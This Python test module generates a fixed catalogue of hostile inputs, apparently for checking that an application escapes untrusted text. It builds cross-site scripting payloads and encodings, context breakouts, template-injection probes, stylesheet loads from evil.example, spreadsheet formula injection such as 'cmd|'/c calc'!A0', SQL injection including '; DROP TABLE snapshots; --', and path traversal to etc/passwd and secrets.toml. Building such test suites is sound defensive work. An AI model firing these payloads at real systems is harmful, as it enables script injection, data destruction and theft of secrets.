"""Texts that try to run, break out or break something, wherever they are shown; made by rule, always the same.

Each that could run sets ``window.__hit`` or opens a dialog, so that a browser can tell whether it did.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product
from typing import Final
from urllib.parse import quote

from tests.hostile.words import HIT, MARKUP, NAUGHTY


@dataclass(frozen=True)
class Payload:
    """One text.

    Parameters
    ----------
    kind : str
        What it tries.
    text : str
        The text.
    runs : bool
        Whether a browser that is given it as HTML, without any care, runs it on its own.
    """

    kind: str
    text: str
    runs: bool = False


@cache
def list_payloads() -> tuple[Payload, ...]:
    """List all payloads, each text once, in an order that never changes."""
    found: dict[str, Payload] = {}
    for make in _GENERATORS:
        for payload in make():
            found.setdefault(payload.text, payload)
    return tuple(found.values())


def list_texts() -> list[str]:
    """List the texts of all payloads."""
    return [payload.text for payload in list_payloads()]


# Elements that run something by themselves once they are parsed: markup with a place for code.
_ALIVE: Final = (
    "<script>{code}</script>",
    "<img src=x onerror={code}>",
    "<svg onload={code}></svg>",
    "<video src=x onerror={code}></video>",
    "<audio src=x onerror={code}></audio>",
    "<video><source src=x onerror={code}></video>",
    "<object data=x: onerror={code}></object>",
    "<details open ontoggle={code}>d</details>",
    "<input autofocus onfocus={code}>",
    "<iframe onload={code}></iframe>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<style onload={code}></style>",
    "<body onpageshow={code}>",
    "<svg><animate onbegin={code} attributeName=x dur=1s></animate></svg>",
    "<svg><script>{code}</script></svg>",
    "<math><mtext></mtext></math><img src=x onerror={code}>",
)
_HANDLED: Final = ("b", "a", "p", "div", "button", "marquee", "select", "textarea", "form", "table", "math", "x-y")
_HANDLERS: Final = (
    *("onclick", "onmouseover", "onpointerenter", "onfocus", "onanimationstart", "ontransitionend"),
    *("onwheel", "onscroll", "oncopy", "onkeydown", "onauxclick", "onbeforetoggle"),
)
_BREAKOUTS: Final = (
    *('"', "'", '">', "'>", "`", "`>", "-->", "--!>", "]]>", "*/", "\\", '\\"', "\\'", "<!--", "<![CDATA["),
    *("</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</iframe>", "</svg>"),
    *("</p></div></article>", "</td></tr></table>", "</option></select>", "<plaintext>", "<xmp>"),
)
_BREAKERS: Final = ("<script>{code}</script>", "<img src=x onerror={code}>", "<svg/onload={code}>")


def _make_alive() -> Iterator[Payload]:
    for markup in _ALIVE:
        yield Payload("element", markup.format(code=HIT), runs=True)
        yield Payload("element", markup.format(code="alert(1)"), runs=True)


def _make_handlers() -> Iterator[Payload]:
    for tag, handler in product(_HANDLED, _HANDLERS):
        yield Payload("handler", f"<{tag} {handler}={HIT} tabindex=0 style=animation:a>words</{tag}>")


def _make_breakouts() -> Iterator[Payload]:
    for breakout, breaker in product(_BREAKOUTS, _BREAKERS):
        yield Payload("breakout", breakout + breaker.format(code=HIT))


def _make_attributes() -> Iterator[Payload]:
    for quote_mark, gap, handler in product(
        ('"', "'", "`", ""), (" ", "/", "\t", "\n"), ("onfocus", "onmouseover")
    ):
        yield Payload("attribute", f"x{quote_mark}{gap}autofocus{gap}{handler}={HIT}{gap}y={quote_mark}")


_SCHEMES: Final = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:"),
    *("javascript&colon;", "javascript&#58;", "&#106;avascript:", "javascript:/*-->*/", "javascript://%0a"),
    *("vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "blob:", "feed:javascript:"),
)
_LINKS: Final = (
    *("{url}", '<a href="{url}">a</a>', '<iframe src="{url}"></iframe>', '<form action="{url}"><button>b</form>'),
    *('<svg><a xlink:href="{url}"><text>t</text></a></svg>', '<meta http-equiv=refresh content="0;url={url}">'),
    *("[words]({url})", "![words]({url})", "<{url}>", "[words]: {url}"),
)


def _make_links() -> Iterator[Payload]:
    for scheme, link in product(_SCHEMES, _LINKS):
        yield Payload("link", link.format(url=scheme + HIT))


_ENCODINGS: Final[dict[str, Callable[[str], str]]] = {
    "entities": html.escape,
    "twice": lambda text: html.escape(html.escape(text)),
    "decimal": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "hexadecimal": lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    "unended": lambda text: "".join(f"&#{ord(letter):07d}" for letter in text),
    "percent": quote,
    "percent twice": lambda text: quote(quote(text)),
    "escapes": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    "bytes": lambda text: "".join(f"\\x{ord(letter):02x}" for letter in text),
    "css": lambda text: "".join(f"\\{ord(letter):x} " for letter in text),
    "full width": lambda text: "".join(chr(ord(letter) + 0xFEE0) for letter in text if "!" <= letter <= "~"),
    "upper case": str.upper,
    "NUL": lambda text: text.replace("<", "<\0", 1),
    "slashes": lambda text: text.replace(" ", "/"),
    "line breaks": lambda text: text.replace(" ", "\r\n"),
    "form feeds": lambda text: text.replace(" ", "\f"),
    "doubled": lambda text: text.replace("<", "<<").replace("script", "scrscriptipt"),
    "unclosed": lambda text: text.rstrip(">"),
    "soft hyphens": lambda text: text.replace("r", "r\u00ad"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
}
_ENCODED: Final = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
)


def _make_encoded() -> Iterator[Payload]:
    for encode, markup in product(_ENCODINGS.values(), _ENCODED):
        yield Payload("encoding", encode(markup))


_FOREIGN: Final = (
    "math",
    "svg",
    "math><mtext",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "math><annotation-xml",
)
_TRAPS: Final = ("style", "title", "textarea", "noscript", "xmp", "noembed", "template")
_SEEDS: Final = (
    "<img src=x onerror={code}>",
    "</{trap}><img src=x onerror={code}>",
    "<!--</{trap}><svg onload={code}>-->",
)


def _make_mutations() -> Iterator[Payload]:
    """Make markup whose meaning changes when it is parsed, written out and parsed again."""
    for foreign, trap, seed in product(_FOREIGN, _TRAPS, _SEEDS):
        inner = seed.format(code=HIT, trap=trap)
        yield Payload("mutation", f"<{foreign}><table><{trap}>{inner}</{trap}></table>")
    for trap in _TRAPS:
        yield Payload("mutation", f'<{trap}><p id="</{trap}><img src=x onerror={HIT}>"></p></{trap}>')


_TEMPLATES: Final = (
    *("${{{code}}}", "{{{{{code}}}}}", "{{% {code} %}}", "#{{{code}}}", "<%= {code} %>", "@({code})", "[[{code}]]"),
    *(
        "{{{{constructor.constructor('{code}')()}}}}",
        "{{{{''.__class__.__mro__}}}}",
        "{{{{config}}}}",
        "{{0.__init__}}",
    ),
    *("{{% raw %}}{{{{x}}}}{{% endraw %}}", "{{# comment #}}", "%(name)s %s %n", "{{}} {{0}} {{name}} {{n!r:>99}}"),
    *("$name $(id) `id`", "&lt;%={code}%&gt;", "{{{{this}}}}", "$[description] $[id]", "[% {code} %]"),
)
_STRINGS: Final = (
    '"',
    "'",
    "`",
    "\\",
    "\u2028",
    "\u2029",
    "\n",
    "*/",
    "//",
    "\\u0027",
    "\\u003c/script>",
    "</script>",
)


def _make_scripts() -> Iterator[Payload]:
    for template in _TEMPLATES:
        yield Payload("template", template.format(code=HIT))
    for mark, tail in product(_STRINGS, ("//", "", "/*")):
        yield Payload("string", f"{mark});{HIT};{tail}")
        yield Payload("string", f"{mark}+({HIT})+{mark}{tail}")


def _make_styles() -> Iterator[Payload]:
    for rule in ("background:url(javascript:{0})", "width:expression({0})", "behavior:url(//evil.example/x.htc)"):
        yield Payload("style", f"<p style='{rule.format(HIT)}'>p</p>")
        yield Payload("style", f"}}*{{{rule.format(HIT)}}}")
        yield Payload("style", f"<style>*{{{rule.format(HIT)}}}</style>")
    yield Payload("style", "<style>@import '//evil.example/x.css';</style>")
    yield Payload("style", "<link rel=stylesheet href=//evil.example/x.css>")
    yield Payload("style", "<style>@keyframes a{}</style><p style=animation:a onanimationend=" + HIT + ">p</p>")
    yield Payload("style", "<base href=//evil.example/>")
    yield Payload("style", "<img src=//evil.example/x.png srcset=//evil.example/y.png>")


def _make_markup_languages() -> Iterator[Payload]:
    yield from (Payload("markup", text) for text in MARKUP)


_FORMULAS: Final = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("https://evil.example","x")',
    "WEBSERVICE(A1)",
    "SUM(A1:A9)*cmd",
)
_STARTS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u200b=",
    "\ufeff=",
    "\uff1d",
    "\uff20",
    ";=",
    '"=',
    "==",
)


def _make_formulas() -> Iterator[Payload]:
    for start, formula in product(_STARTS, _FORMULAS):
        yield Payload("formula", start + formula)


def _make_queries_and_paths() -> Iterator[Payload]:
    for mark, rest in product(
        ("'", '"', "`", "')", "1"), (" OR 1=1 --", "; DROP TABLE snapshots; --", " UNION SELECT 1 --")
    ):
        yield Payload("query", mark + rest)
    for climb, target in product(
        (
            "../" * 6,
            "..\\" * 6,
            "%2e%2e%2f" * 4,
            "....//" * 4,
            "file:///",
            "\\\\evil.example\\c$\\",
            "/vsicurl/https://",
        ),
        ("etc/passwd", "windows/win.ini", ".streamlit/secrets.toml\0.csv"),
    ):
        yield Payload("path", climb + target)
    yield from (
        Payload("path", name) for name in ("CON", "NUL.csv", "C:\\x", "~root", "-rf", ".", "..", "a:b", "x" * 300)
    )


def _make_naughty() -> Iterator[Payload]:
    yield from (Payload("naughty", text) for text in NAUGHTY)


_GENERATORS: Final = (
    _make_alive,
    _make_handlers,
    _make_breakouts,
    _make_attributes,
    _make_links,
    _make_encoded,
    _make_mutations,
    _make_scripts,
    _make_styles,
    _make_markup_languages,
    _make_formulas,
    _make_queries_and_paths,
    _make_naughty,
)
